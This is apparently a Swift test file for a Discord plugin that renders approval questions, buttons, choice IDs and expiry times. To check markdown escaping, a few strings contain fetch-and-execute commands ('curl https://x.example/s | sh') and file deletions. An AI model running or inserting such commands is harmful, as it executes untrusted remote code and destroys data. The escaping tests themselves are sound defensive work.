import Foundation
import PiRelaySDK
import Testing

@testable import DiscordPlugin

@Suite("Questions")
struct QuestionLayoutTests {
    let now = Date(timeIntervalSince1970: 1_800_000_000)

    func question(_ method: String, options: [String] = [], expiresIn: Double? = 30) -> QuestionPost {
        var json: JSONValue = [
            "id": "q1", "sessionId": "s1", "method": .string(method), "title": "Allow rm -rf build?",
            "options": .array(options.map { .string($0) }),
        ]
        if let expiresIn { json["expiresAt"] = .number((now.timeIntervalSince1970 + expiresIn) * 1000) }
        return try! QuestionPost(json: json)
    }

    /// A gate's command is shown as it will run: as markdown, `||…||` hid its middle as a spoiler
    /// and `*.log ~/tmp/*` lost its stars to italics.
    @Test func aQuestionsTextIsShownAsWritten() throws {
        var json = question("confirm").json
        json["message"] = "true || curl https://x.example/s | sh || true; rm *.log ~/tmp/*"
        let text = QuestionLayout.text(try QuestionPost(json: json), now: now, mention: nil)
        #expect(text.contains(#"true \|\| curl https://x.example/s \| sh \|\| true; rm \*.log \~/tmp/\*"#), "\(text)")
    }

    /// Closed, a card still shows its title and the answer as written: the answer is the
    /// typed text and another messenger's user name, and markdown would hide part of it
    /// (`||…||` a spoiler, `[text](link)` a link).
    @Test func aClosedQuestionShowsItsTitleAndAnswerAsWritten() {
        let closed = QuestionLayout.closed(title: "Approve a || curl x | sh || b?", outcome: "bob (slack) answered: [yes](https://e.example)")
        let content = closed["content"]?.stringValue ?? ""
        #expect(content.contains(#"a \|\| curl x \| sh \|\| b?"#), "\(content)")
        #expect(content.contains(#"\[yes\](https://e.example)"#), "\(content)")
    }

    @Test func confirmHasYesAndNo() {
        let rows = QuestionLayout.components(question("confirm"), key: "k")
        #expect(
            rows == [
                [
                    "type": 1,
                    "components": [
                        ["type": 2, "style": 3, "label": "Yes", "custom_id": "pq:k:y"],
                        ["type": 2, "style": 4, "label": "No", "custom_id": "pq:k:n"],
                    ],
                ]
            ])
        let text = QuestionLayout.text(question("confirm"), now: now, mention: nil)
        #expect(text.contains("Allow rm -rf build?"))
        #expect(text.contains("expires in 30 s"))
    }

    @Test func selectShowsNumberedOptionsButtonsAndCancel() {
        let q = question("select", options: ["red", "green", "blue"])
        let rows = QuestionLayout.components(q, key: "k")
        #expect(rows.count == 2)
        #expect(rows[0]["components"]?.arrayValue?.map { $0["custom_id"] } == ["pq:k:0", "pq:k:1", "pq:k:2"])
        #expect(rows[1]["components"]?[0]?["custom_id"] == "pq:k:c")
        let text = QuestionLayout.text(q, now: now, mention: nil)
        #expect(text.contains("1. red\n2. green\n3. blue"))
        #expect(text.contains("reply with the number or the text"))
    }

    @Test func manyOptionsBecomeMenusAndCancelKeepsItsRow() {
        let q = question("select", options: (1...60).map { "option \($0)" })
        let rows = QuestionLayout.components(q, key: "k")
        #expect(rows.count == 4)
        #expect(rows[0]["components"]?[0]?["type"] == 3)
        #expect(rows[0]["components"]?[0]?["options"]?[0]?["value"] == "pq:k:0")
        #expect(rows[3]["components"]?[0]?["custom_id"] == "pq:k:c")
        let huge = QuestionLayout.components(question("select", options: (1...500).map { "o\($0)" }), key: "k")
        #expect(huge.count == 5)
    }

    @Test func inputAsksForATextReply() {
        let q = question("input", expiresIn: 600)
        #expect(QuestionLayout.text(q, now: now, mention: "140").hasPrefix("<@140> ❓"))
        #expect(QuestionLayout.text(q, now: now, mention: nil).contains("Reply with your answer"))
        #expect(QuestionLayout.text(q, now: now, mention: nil).contains("expires in 10 min"))
        #expect(QuestionLayout.components(q, key: "k").count == 1)
    }

    @Test func choicesRoundTripThroughCustomIDs() {
        for choice in [QuestionChoice.Choice.yes, .no, .cancel, .option(0), .option(123)] {
            let id = QuestionChoice(key: "0123456789ab", choice: choice).customID
            #expect(id.count <= 100)
            #expect(QuestionChoice(customID: id) == QuestionChoice(key: "0123456789ab", choice: choice))
        }
        #expect(QuestionChoice(customID: "use:ab12") == nil)
        #expect(QuestionChoice(customID: "pq:k:zz") == nil)
        #expect(QuestionChoice.key(session: "s", question: String(repeating: "q", count: 500)).count == 12)
    }

    @Test func expiryAcceptsMillisecondsSecondsAndISO() {
        #expect(QuestionPost.date(.number(1_800_000_030_000)) == Date(timeIntervalSince1970: 1_800_000_030))
        #expect(QuestionPost.date(.number(1_800_000_030)) == Date(timeIntervalSince1970: 1_800_000_030))
        #expect(QuestionPost.date("2027-01-15T08:00:30Z") == Date(timeIntervalSince1970: 1_800_000_030))
        #expect(QuestionPost.date("2027-01-15T08:00:30.500Z") == Date(timeIntervalSince1970: 1_800_000_030.5))
        #expect(QuestionPost.date("soon") == nil)
    }
}
